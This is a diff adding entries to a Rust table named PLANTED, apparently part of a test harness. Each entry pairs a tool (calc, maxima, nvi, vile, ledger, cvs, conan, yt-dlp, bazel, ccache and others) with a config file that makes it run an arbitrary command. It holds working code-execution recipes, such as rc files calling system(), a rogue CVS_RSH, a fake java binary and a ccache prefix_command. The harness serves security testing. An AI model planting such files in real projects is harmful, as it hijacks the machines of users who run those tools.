@@ -322,6 +322,91 @@ const PLANTED: &[(&str, &str, &str, &str, &str)] = &[
         "R --no-save -e 0",
     ),
     (".octaverc", "octave-cli", ":", "echo 'system(\"@\");' > .octaverc", "octave-cli --eval 0"),
+    (".calcinit", "calc", ":", "echo 'system(\"@\");' > .calcinit", "calc 1"),
+    (".gambini", "gsi", ":", "echo '(shell-command \"@\")' > .gambini", "gsi -e 1"),
+    (
+        "maxima-init.lisp",
+        "maxima",
+        ":",
+        "echo '(si:system \"@\")' > maxima-init.lisp",
+        "echo 'quit();' | maxima",
+    ),
+    (
+        "maxima-init.mac",
+        "maxima",
+        ":",
+        "echo 'system(\"@\")$' > maxima-init.mac",
+        "echo 'quit();' | maxima",
+    ),
+    (
+        ".nexrc",
+        "nvi",
+        "echo set exrc > ~/.nexrc",
+        "echo '!@' > .nexrc",
+        "TERM=xterm timeout 3 script -qc nvi /dev/null < /dev/null",
+    ),
+    (
+        ".vilerc",
+        "vile",
+        ":",
+        "echo 'shell-command \"@\"' > .vilerc",
+        "TERM=xterm timeout 3 script -qc vile /dev/null < /dev/null",
+    ),
+    (
+        ".gutctags, as Gutentags has it read",
+        "ctags",
+        "echo 'int x;' > a.c",
+        "echo -fFILE > .gutctags",
+        "[ ! -e .gutctags ] || ctags --options=.gutctags a.c",
+    ),
+    (
+        ".ledgerrc",
+        "ledger",
+        "printf '2020/01/01 x\n a  1\n b\n' > journal",
+        "printf '#!/bin/sh\n@\n' > evil; chmod +x evil; printf -- '--pager %s/evil\n--force-pager\n' $PWD > .ledgerrc",
+        "ledger -f journal balance",
+    ),
+    (".valgrindrc", "valgrind", ":", "echo --log-file=FILE > .valgrindrc", "valgrind true"),
+    (
+        "CVS/Root",
+        "cvs",
+        "mkdir CVS; echo :local:/x > CVS/Root; echo x > CVS/Repository; echo D > CVS/Entries",
+        "printf '#!/bin/sh\n@\n' > evil; chmod +x evil; echo \":ext;CVS_RSH=$PWD/evil:h:/x\" > CVS/Root",
+        "cvs status",
+    ),
+    (
+        ".conanrc",
+        "conan",
+        ":",
+        "mkdir -p evil/extensions/commands; echo 'import os; os.system(\"@\")' > evil/extensions/commands/cmd_x.py; \
+         echo conan_home=./evil > .conanrc",
+        "conan version",
+    ),
+    (
+        "yt-dlp.conf",
+        "yt-dlp",
+        "echo x > v.mp4; echo \"{\\\"id\\\":\\\"a\\\",\\\"title\\\":\\\"t\\\",\\\"extractor\\\":\\\"generic\\\",\
+         \\\"extractor_key\\\":\\\"Generic\\\",\\\"ext\\\":\\\"mp4\\\",\\\"webpage_url\\\":\\\"x\\\",\
+         \\\"url\\\":\\\"file://$PWD/v.mp4\\\"}\" > i.json",
+        "echo '--exec before_dl:\"@\"' > yt-dlp.conf",
+        "yt-dlp --enable-file-urls --load-info-json i.json",
+    ),
+    (
+        "what .bazelrc imports",
+        "bazel",
+        "touch WORKSPACE; echo 'try-import %workspace%/user.bazelrc' > .bazelrc",
+        "mkdir -p evil/bin; printf '#!/bin/sh\n@\nexit 1\n' > evil/bin/java; chmod +x evil/bin/java; \
+         echo startup --server_javabase=$PWD/evil > user.bazelrc",
+        "timeout 60 bazel info",
+    ),
+    (
+        "ccache.conf in the cache",
+        "ccache",
+        "echo 'int x;' > a.c",
+        "printf '#!/bin/sh\n@\n' > evil; chmod +x evil; mkdir -p ~/.cache/ccache; \
+         echo prefix_command = $PWD/evil > ~/.cache/ccache/ccache.conf",
+        "CCACHE_DIR=~/.cache/ccache ccache cc -c a.c",
+    ),
     (
         ".mvn/jvm.config",
         "mvn",
